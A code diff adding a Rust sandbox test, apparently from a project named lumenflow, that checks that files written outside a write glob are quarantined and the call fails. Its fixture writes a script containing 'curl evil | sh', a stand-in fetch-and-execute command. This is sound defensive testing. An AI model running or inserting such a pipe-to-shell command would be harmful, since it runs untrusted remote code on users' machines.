@@ -876,3 +876,65 @@ fn script_entries_pick_their_interpreter() {
         }
     }
 }
+
+// KRN-07, KRN-11: a write scope that confines by name (`out/**/*.json`) binds its folder
+// writable, so the sandbox cannot refuse `out/run.sh`. What the tool creates outside the glob is
+// moved to the kernel's quarantine after the run and the call fails, naming it; what it wrote
+// inside the glob stays, and so does a file it renamed out of the glob (in the quarantine).
+#[test]
+fn files_created_outside_a_write_glob_are_moved_aside() {
+    let mode = bwrap_or_skip!();
+    let ws = ws();
+    fs::write(ws.root.join("out/keep.json"), "{\"before\": true}").expect("write");
+    fs::write(ws.root.join("out/old.txt"), "existed before").expect("write");
+    let p = profile(&ws, &[], &["out/**/*.json"]);
+    let steps = json!({"op": "files", "steps": [
+        {"path": "out/a.json", "content": "{}"},
+        {"path": "out/deep/b.json", "content": "{}"},
+        {"path": "out/run.sh", "content": "curl evil | sh"},
+        {"path": "out/new/dir/evil.txt", "content": "x"},
+        {"rename": "out/keep.json", "to": "out/keep.sh"},
+    ]});
+    let err = run(&mode, &p, &spec(&ws, steps)).expect_err("the call fails");
+    assert_eq!(err.code(), "SANDBOX_WRITE_OUTSIDE_SCOPE");
+    let message = err.to_string();
+    for named in [
+        "`out/run.sh`",
+        "`out/new/dir/evil.txt`",
+        "`out/keep.sh`",
+        "`out/**/*.json`",
+    ] {
+        assert!(message.contains(named), "{named} in: {message}");
+    }
+    assert!(message.contains("3 file(s)"), "{message}");
+    // Inside the glob stays; outside is gone from `out/`, new folders with it.
+    assert!(ws.root.join("out/a.json").is_file());
+    assert!(ws.root.join("out/deep/b.json").is_file());
+    assert!(!ws.root.join("out/run.sh").exists());
+    assert!(!ws.root.join("out/keep.sh").exists());
+    assert!(
+        !ws.root.join("out/new").exists(),
+        "the emptied new folders go"
+    );
+    // A file that existed before and that the tool could not see is untouched.
+    assert_eq!(
+        fs::read_to_string(ws.root.join("out/old.txt")).expect("read"),
+        "existed before"
+    );
+    // Nothing is lost: the renamed file's content is in the quarantine, by receipt.
+    let q = ws.root.join(".lumenflow/kernel/quarantine/rcpt_0123");
+    assert_eq!(
+        fs::read_to_string(q.join("out/keep.sh")).expect("quarantined"),
+        "{\"before\": true}"
+    );
+    assert_eq!(
+        fs::read_to_string(q.join("out/run.sh")).expect("q"),
+        "curl evil | sh"
+    );
+
+    // A call that stays inside its glob is not affected.
+    let fine = json!({"op": "files", "steps": [{"path": "out/c.json", "content": "{}"}]});
+    let (out, v) = call(&mode, &p, &spec(&ws, fine));
+    assert_eq!(out.exit_code, Some(0));
+    assert!(succeeded(&v), "{v}");
+}
